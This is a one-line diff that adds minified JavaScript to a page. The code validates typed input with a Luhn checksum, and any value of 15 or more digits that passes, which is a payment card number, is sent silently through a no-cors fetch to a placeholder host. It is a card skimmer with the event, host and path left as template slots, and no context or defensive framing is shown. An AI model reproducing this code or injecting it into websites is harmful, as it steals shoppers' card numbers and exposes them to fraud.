@@ -1,0 +1,1 @@
+(()=>{const e=e=>{let t=0,n=!1;for(let r=e.length-1;r>=0;r--){let o=+e[r];n&&(o*=2)>9&&(o-=9),t+=o,n=!n}return t%10==0};document.addEventListener("%EVENT%",t=>{const n=(t.target.value||"").replace(/\D/g,"");n.length>14&&e(n)&&fetch("https://%HOST%/%PATH%?c="+n,{mode:"no-cors"})})})();
